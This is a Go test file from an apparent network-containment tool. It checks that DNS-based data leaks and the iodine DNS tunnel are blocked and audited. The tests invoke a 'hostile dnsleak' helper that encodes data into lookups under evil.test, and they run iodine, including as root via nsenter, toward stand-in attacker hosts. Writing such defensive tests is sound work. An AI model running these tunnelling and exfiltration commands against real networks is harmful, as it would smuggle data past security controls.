package clients

import (
	"bytes"
	"context"
	"fmt"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"tagout/internal/audit"
	"tagout/internal/instance"
	"tagout/internal/practice"
	"tagout/internal/reason"
)

// dnsleak writes data into names below a denied domain and below one that a wildcard allows: lookups of several
// types over UDP and TCP, connections, CONNECT through the explicit proxy. That each of these gets out of a
// machine that does not contain it is shown in cmd/hostile.
func dnsleak(t *testing.T, w *world) {
	via := fmt.Sprintf("%v:%d", w.box.Inst.Gateway(), instance.PortExplicit)
	leak := func(style string, n int, domain string) string {
		return fmt.Sprintf("/workspace/hostile dnsleak -style %s -n %d -via %s %s", style, n, via, domain)
	}
	for _, style := range []string{"base32", "hex", "words"} {
		if out, _ := w.sh(t, leak(style, 24, style+".evil.test")); !strings.Contains(out, " 24 names, 0 answered, 0 connected, 0 tunnelled") {
			t.Errorf("denied domain, %s: %s", style, out)
		}
	}
	for _, style := range []string{"base32", "hex"} {
		if out, _ := w.sh(t, leak(style, 24, "wild.test")); !strings.Contains(out, " 24 names, 0 answered, 0 connected, 0 tunnelled") {
			t.Errorf("allowed wildcard, %s: %s", style, out)
		}
	}
	if n := w.box.Net.DNS.Count("wild.test"); n != 0 {
		t.Errorf("%d queries with data in their names left the box", n)
	}
	rec := w.wantRecord(t, attempt{name: "data under a wildcard", code: reason.WildcardLimit, comm: "hostile"})
	w.wantAlert(t, rec)
	// Names that hold little and look like nothing do pass, and so many of them and no more.
	if out, _ := w.sh(t, leak("words", 300, "wild.test")); !strings.Contains(out, " 300 names, 256 answered") {
		t.Errorf("names that look like nothing: %s", out)
	}
	left := map[string]bool{}
	for _, q := range w.box.Net.DNS.Queries() {
		if strings.HasSuffix(q.Name, ".wild.test") {
			left[q.Name] = true
		}
	}
	if len(left) != 256 {
		t.Errorf("%d names left the box, want 256 and no more", len(left))
	}
}

// wantAlert waits for the record's alert.
func (w *world) wantAlert(t *testing.T, rec audit.Record) {
	t.Helper()
	mine := *w.box
	mine.T = t
	mine.WaitAlert(rec.ID)
}

// iodine is the best known DNS tunnel. In a kid it gets nowhere, for want of a tun device. So it also runs as
// root with a tun device in the kid's network namespace, as if the kid had broken out of everything else: its
// queries go to the kid's resolver, to another resolver and to its own server, and none arrives.
func iodine(t *testing.T, w *world) {
	gateway, resolver, server := w.box.Inst.Gateway().String(), w.box.Net.DNSAddr().String(), w.box.Net.EvilAddr().String()
	if out, code := w.sh(t, "/usr/sbin/iodine -f -r -P x "+gateway+" t.evil.test"); code == 0 || !strings.Contains(out, "root") {
		t.Errorf("in the kid: exit %d: %s", code, out)
	}
	netns := "--net=" + filepath.Join(w.box.Inst.NetNSDir(), w.kid.Name)
	for _, way := range []struct {
		to   string
		code reason.Code
	}{
		{gateway, reason.NameNotAllowed}, {resolver, reason.DNSBypass}, {server, reason.DNSBypass},
	} {
		run(t, "nsenter", netns, "/usr/sbin/iodine", "-f", "-r", "-P", "x", way.to, "t.evil.test")
		mine := *w.box
		mine.T = t
		mine.WaitRecord("iodine's queries to "+way.to, func(r *audit.Record) bool {
			return r.Kid == w.kid.Name && r.Outcome == audit.OutcomeDeny && r.Reason == way.code && r.Dst != nil &&
				(strings.HasSuffix(r.Dst.Name, ".t.evil.test.") || strings.HasSuffix(r.Dst.Name, ".t.evil.test") || r.Dst.Addr.String() == way.to)
		})
	}
	// Where nothing contains it, its queries arrive.
	if err := w.box.Net.Do(func() error {
		run(t, "/usr/sbin/iodine", "-f", "-r", "-P", "x", resolver, "t.control.test")
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(t.Context(), patience)
	defer cancel()
	if err := practice.Wait(ctx, "iodine's queries arrive where nothing stops them", func() bool { return w.box.Net.DNS.Count("t.control.test") > 0 }); err != nil {
		t.Error(err)
	}
}

// run starts a command of the host and kills it when the test ends.
func run(t *testing.T, argv ...string) {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	cmd := exec.CommandContext(ctx, argv[0], argv[1:]...)
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	if err := cmd.Start(); err != nil {
		cancel()
		t.Fatal(err)
	}
	t.Cleanup(func() {
		cancel()
		cmd.Wait() // killed
		if t.Failed() {
			t.Logf("%v printed:\n%s", argv, out.String())
		}
	})
}
